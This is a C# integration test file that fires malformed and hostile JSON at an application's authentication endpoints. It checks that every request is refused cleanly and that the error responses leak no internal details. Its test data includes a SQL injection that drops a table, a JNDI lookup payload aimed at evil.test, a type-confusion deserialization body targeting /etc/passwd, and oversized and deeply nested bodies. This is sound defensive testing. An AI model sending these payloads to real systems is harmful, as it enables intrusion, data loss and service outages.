using System.Net;
using System.Net.Http.Headers;
using System.Text;
using Monolith.Tests.Integration.Fixture;

namespace Monolith.Tests.Integration.Identity.Attacks;

/// <summary>Somebody sends what no client would, to every call that anybody may make.</summary>
public sealed class MalformedInputTests(OneHost fixture) : IClassFixture<OneHost>
{
    private const int Mebibyte = 1024 * 1024;

    private static readonly string[] Calls =
        ["login", "login/mfa", "register", "refresh", "email/verify", "email/resend", "password/forgot", "password/reset", "invitation"];

    private static readonly Dictionary<string, Func<byte[]>> Bodies = new(StringComparer.Ordinal)
    {
        ["half an object"] = () => Text("{\"email\":\"a@b.test\""),
        ["two objects"] = () => Text("{}{}"),
        ["an array"] = () => Text("[]"),
        ["a number"] = () => Text("1e999"),
        ["a text"] = () => Text("\"email\""),
        ["nothing but null"] = () => Text("null"),
        ["every field an object"] = () => Text("""{"email":{},"password":{},"token":{},"refreshToken":{},"mfaToken":{},"displayName":{},"method":{},"code":{}}"""),
        ["every field an array"] = () => Text("""{"email":[],"password":[],"token":[],"refreshToken":[],"mfaToken":[],"displayName":[],"method":[],"code":[]}"""),
        ["every field a number"] = () => Text("""{"email":1,"password":1,"token":1,"refreshToken":1,"mfaToken":1,"displayName":1,"method":1,"code":1}"""),
        ["half a surrogate"] = () => Text("""{"email":"\ud800@b.test","password":"\udc00\udc00\udc00\udc00\udc00\udc00\udc00\udc00\udc00\udc00\udc00\udc00","token":"\ud800","refreshToken":"\ud800","mfaToken":"\ud800","displayName":"\ud800","method":"\ud800","code":"\ud800"}"""),
        ["zeros in texts"] = () => Text("""{"email":"a\u0000@b.test","password":"a\u0000","token":"a\u0000","refreshToken":"a\u0000","mfaToken":"a\u0000","displayName":"a\u0000","method":"totp\u0000","code":"1\u0000"}"""),
        ["bytes that are no UTF-8"] = () => [.. Text("{\"email\":\""), 0xff, 0xfe, 0xc0, 0xaf, .. Text("\"}")],
        ["UTF-16"] = () => Encoding.Unicode.GetBytes("{}"),
        ["deeper than anybody reads"] = () => Text($"{{\"email\":{new string('[', 100_000)}"),
        ["a text of nearly a mebibyte"] = () => Everywhere(new string('a', 115_000)),
        ["a million spaces"] = () => Text(new string(' ', 1_000_000)),
        ["comments"] = () => Text("{/* */}"),
        ["SQL"] = () => Everywhere("' or 1=1; drop table identity.mt_doc_account; --"),
        ["a format"] = () => Everywhere("%s%n{0}${jndi:ldap://evil.test/a}"),
        ["another class"] = () => Text("""{"$type":"System.IO.FileInfo, System.Private.CoreLib","email":"/etc/passwd"}"""),
    };

    public static TheoryData<string> Attempts => [.. Bodies.Keys];

    private MonolithHost Host => fixture.Host;

    [Theory]
    [MemberData(nameof(Attempts))]
    public async Task Every_call_refuses(string attempt)
    {
        using var client = Host.CreateClient();
        foreach (var call in Calls)
        {
            using var body = new ByteArrayContent(Bodies[attempt]());
            body.Headers.ContentType = new MediaTypeHeaderValue("application/json");
            using var answer = await client.PostAsync($"/api/v1/auth/{call}", body);
            var text = await answer.Content.ReadAsStringAsync();
            ((int)answer.StatusCode).ShouldBeInRange(400, 499, $"{call}: {text}");
            answer.Content.Headers.ContentType!.MediaType.ShouldBe("application/problem+json");
            text.ShouldNotContain("   at ");
            text.ShouldNotContain("Exception");
        }
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task A_body_of_more_than_a_mebibyte_is_refused_whether_or_not_it_says_so(bool saysSo)
    {
        using var client = Host.CreateClient();
        foreach (var call in Calls)
        {
            using var answer = await SendTooMuchAsync(client, call, saysSo);
            answer.StatusCode.ShouldBe(HttpStatusCode.RequestEntityTooLarge, call);
        }
    }

    [Fact]
    public async Task The_later_of_two_fields_of_one_name_does_not_slip_past_the_check_of_the_first()
    {
        using var client = Host.CreateClient();
        using var body = new ByteArrayContent(Text($$"""{"email":"{{MonolithHost.AdminEmail}}","email":"no address","password":"{{MonolithHost.AdminPassword}}"}"""));
        body.Headers.ContentType = new MediaTypeHeaderValue("application/json");
        using var answer = await client.PostAsync("/api/v1/auth/login", body);
        answer.StatusCode.ShouldBeOneOf(HttpStatusCode.BadRequest, HttpStatusCode.Unauthorized);
    }

    /// <summary>Who does not say how much comes may still be sending when the connection is closed, and miss the answer: he sends it again.</summary>
    private static async Task<HttpResponseMessage> SendTooMuchAsync(HttpClient client, string call, bool saysSo)
    {
        for (var left = 10; ; left--)
        {
            using var body = new ByteArrayContent(Text($"{{\"email\":\"{new string('a', Mebibyte)}\"}}"));
            body.Headers.ContentType = new MediaTypeHeaderValue("application/json");
            using var request = new HttpRequestMessage(HttpMethod.Post, $"/api/v1/auth/{call}") { Content = body };
            request.Headers.TransferEncodingChunked = !saysSo;
            request.Headers.ExpectContinue = saysSo;
            try
            {
                return await client.SendAsync(request);
            }
            catch (HttpRequestException lost) when (lost.InnerException is IOException && !saysSo && left > 0)
            {
                // Sent again.
            }
        }
    }

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Everywhere(string text)
    {
        var value = System.Text.Json.JsonSerializer.Serialize(text);
        string[] fields = ["email", "password", "newPassword", "token", "refreshToken", "mfaToken", "displayName", "method", "code"];
        return Text($"{{{string.Join(',', fields.Select(field => $"\"{field}\":{value}"))}}}");
    }
}
